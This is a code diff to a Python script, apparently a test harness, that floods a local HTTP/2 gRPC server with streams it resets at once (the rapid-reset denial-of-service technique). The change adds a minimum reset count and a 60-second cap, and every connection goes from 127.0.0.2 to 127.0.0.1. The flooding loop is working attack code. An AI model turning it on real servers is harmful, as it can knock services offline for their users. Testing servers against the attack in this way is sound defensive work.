@@ -14,6 +14,8 @@ END_STREAM, END_HEADERS = 1, 4
 CANCEL = 8
 LARGEST_STREAM = 2**31 - 1
 ATTACKER = "127.0.0.2"
+# An attack gives up then, however few streams it has reset.
+MOST_SECONDS = 60
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -32,39 +34,51 @@ def header_block(**headers):
     return block
 
 
-def attack(port, path, request, seconds):
+def connect(port):
+    """A connection from ATTACKER to 127.0.0.1:port; what is not read within a second is not sent."""
+    connection = socket.create_connection(("127.0.0.1", port), timeout=MOST_SECONDS, source_address=(ATTACKER, 0))
+    connection.settimeout(1)
+    return connection
+
+
+def attack(port, path, request, seconds, least):
     """Asks on one connection to 127.0.0.1:port, stream after stream, and resets each at once.
 
-    Comes from ATTACKER, so that others are told from it. Connects again whenever it is cut off. Returns how many streams it reset.
+    For some seconds, and until it was at least so many streams, on a slow machine, too. Comes from ATTACKER, so that
+    others are told from it. Connects again whenever it is cut off. Returns how many streams it reset.
     """
     block = header_block(__method="POST", __scheme="http", __path=path, __authority="localhost",
                          content_type="application/grpc", te="trailers")
     message = struct.pack(">BI", 0, len(request)) + request
-    end, resets = time.monotonic() + seconds, 0
-    while time.monotonic() < end:
-        with socket.create_connection(("127.0.0.1", port), timeout=1, source_address=(ATTACKER, 0)) as connection:
+    begin, resets = time.monotonic(), 0
+
+    def goes_on():
+        passed = time.monotonic() - begin
+        return passed < (seconds if resets >= least else MOST_SECONDS)
+
+    while goes_on():
+        with connect(port) as connection:
             try:
-                resets += reset_streams(connection, block, message, end)
+                for sent in reset_streams(connection, block, message):
+                    resets += sent
+                    if not goes_on():
+                        break
             except OSError:
                 pass  # cut off, or not read any more: again
     return resets
 
 
-def reset_streams(connection, block, message, end):
-    """The attack on one connection, until its time or its stream numbers end."""
+def reset_streams(connection, block, message):
+    """The attack on one connection, until its stream numbers end; yields how many it reset, time and again."""
     connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
     cancel = struct.pack(">I", CANCEL)
-    resets = 0
     for first in range(1, LARGEST_STREAM, 200):
-        if time.monotonic() > end:
-            break
         streams = range(first, first + 200, 2)
         connection.sendall(b"".join(
             frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
             + frame(RST_STREAM, 0, stream, cancel) for stream in streams))
-        resets += len(streams)
         read_what_came(connection)
-    return resets
+        yield len(streams)
 
 
 def read_what_came(connection):
